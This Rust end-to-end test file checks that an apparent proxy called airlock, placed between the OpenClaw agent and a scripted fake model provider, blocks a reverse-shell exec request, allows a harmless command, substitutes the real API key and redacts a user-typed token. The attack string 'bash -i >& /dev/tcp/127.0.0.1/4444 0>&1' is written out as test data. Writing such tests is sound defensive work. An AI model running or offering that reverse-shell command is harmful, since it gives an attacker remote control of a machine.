//! End-to-end with the real OpenClaw agent (`openclaw agent --local`) pointed at airlock, for both
//! `anthropic-messages` and `openai-completions`, behind a scripted fake provider. Proves, with files a
//! really executed `exec` touches: a reverse-shell call the model asks for never runs, a harmless one
//! does; the provider receives the real key and never the placeholder; a secret the user typed never
//! reaches it. Needs `AIRLOCK_PEER_OPENCLAW_BIN` (a directory with `node` ≥ 24 and `openclaw`), set by
//! `tests/run-all.sh`.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod common;

use common::*;
use std::path::{Path, PathBuf};
use std::process::Command;

const REAL_KEY: &str = "sk-real-provider-key-7f3a9c1e5b";
const PLACEHOLDER: &str = "placeholder-not-a-key";
/// OpenClaw forwards this token verbatim (it masks some formats itself, e.g. AWS key ids), so only airlock's
/// prompt redaction can keep it from the provider.
const USER_SECRET: &str = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";

fn openclaw_bin() -> Option<PathBuf> {
    let dir = std::env::var_os("AIRLOCK_PEER_OPENCLAW_BIN").map(PathBuf::from);
    if dir.is_none() {
        assert!(std::env::var_os("AIRLOCK_E2E_REQUIRED").is_none(), "AIRLOCK_PEER_OPENCLAW_BIN not set");
        eprintln!("skipped: AIRLOCK_PEER_OPENCLAW_BIN not set");
    }
    dir
}

/// One `openclaw agent --local` turn against airlock; returns the agent's stdout.
fn run_agent(bin: &Path, home: &Path, workspace: &Path, base_url: &str, api: &str, message: &str) -> String {
    std::fs::create_dir_all(home.join(".openclaw")).unwrap();
    let config = format!(
        r#"{{ models: {{ mode: "replace", providers: {{ fake: {{ baseUrl: "{base_url}", apiKey: "{PLACEHOLDER}",
            api: "{api}", models: [{{ id: "m", name: "M", contextWindow: 200000, maxTokens: 4096 }}] }} }} }},
          agents: {{ defaults: {{ model: {{ primary: "fake/m" }}, workspace: "{}" }} }},
          tools: {{ exec: {{ security: "full", ask: "off" }} }} }}"#,
        workspace.display()
    );
    std::fs::write(home.join(".openclaw/openclaw.json"), config).unwrap();
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap_or_default());
    let out = Command::new(bin.join("openclaw"))
        .args(["agent", "--local", "-m", message, "--json"])
        .env("HOME", home)
        .env("PATH", path)
        .current_dir(workspace)
        .output()
        .unwrap();
    assert!(out.status.success(), "openclaw failed: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).to_string()
}

fn scenario(api: &str) {
    let (Some(py), Some(bin)) = (python(), openclaw_bin()) else { return };
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("workspace");
    std::fs::create_dir_all(&ws).unwrap();
    let bad_marker = ws.join("reverse-shell-ran");
    let good_marker = ws.join("harmless-ran");
    let attack = format!("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1; touch {}", bad_marker.display());
    let harmless = format!("touch {}", good_marker.display());
    for (i, (command, expect_ran, marker)) in
        [(attack, false, &bad_marker), (harmless, true, &good_marker)].into_iter().enumerate()
    {
        let log = tmp.path().join(format!("provider-{i}.jsonl"));
        let (_p, port) = scripted_provider(&py, &log, &command);
        let upstream = if api == "anthropic-messages" {
            format!("http://127.0.0.1:{port}")
        } else {
            format!("http://127.0.0.1:{port}/v1")
        };
        let airlock_api = if api == "anthropic-messages" { "anthropic-messages" } else { "openai-chat" };
        std::env::set_var("AIRLOCK_TEST_REAL_KEY", REAL_KEY);
        let extra = format!(
            "[policy]\nprofile = \"moderate\"\n[[llm]]\nname = \"fake\"\npath = \"/fake\"\napi = \"{airlock_api}\"\n\
             upstream = \"{upstream}\"\napi_key_env = \"AIRLOCK_TEST_REAL_KEY\"\n"
        );
        let airlock = Airlock::start(&extra, "");
        let home = tmp.path().join(format!("home-{i}"));
        let message = format!("Use my GitHub token {USER_SECRET} and run the command for me.");
        let out = run_agent(&bin, &home, &ws, &airlock.url("/fake"), api, &message);
        assert_eq!(marker.exists(), expect_ran, "{api}: `{command}` ran={} (agent said: {out})", marker.exists());
        let reqs = provider_requests(&log);
        assert!(!reqs.is_empty(), "{api}: the provider saw no request");
        for r in &reqs {
            let headers = r["headers"].to_string();
            let body = r["body"].as_str().unwrap_or_default();
            assert!(headers.contains(REAL_KEY), "{api}: the provider did not get the real key: {headers}");
            assert!(
                !headers.contains(PLACEHOLDER) && !body.contains(PLACEHOLDER),
                "{api}: the placeholder leaked upstream"
            );
            assert!(!body.contains(USER_SECRET), "{api}: the user's secret reached the provider");
        }
        let audit = airlock.audit_text();
        assert!(audit.contains("\"tool\":\"exec\""), "{api}: the exec decision is not audited");
        assert!(!audit.contains(REAL_KEY) && !airlock.log().contains(REAL_KEY), "{api}: the real key leaked into logs");
        if !expect_ran {
            assert!(audit.contains("\"verdict\":\"deny\""), "{api}: the reverse shell was not denied: {audit}");
        }
    }
}

#[test]
fn openclaw_over_anthropic_messages() {
    scenario("anthropic-messages");
}

#[test]
fn openclaw_over_openai_completions() {
    scenario("openai-completions");
}
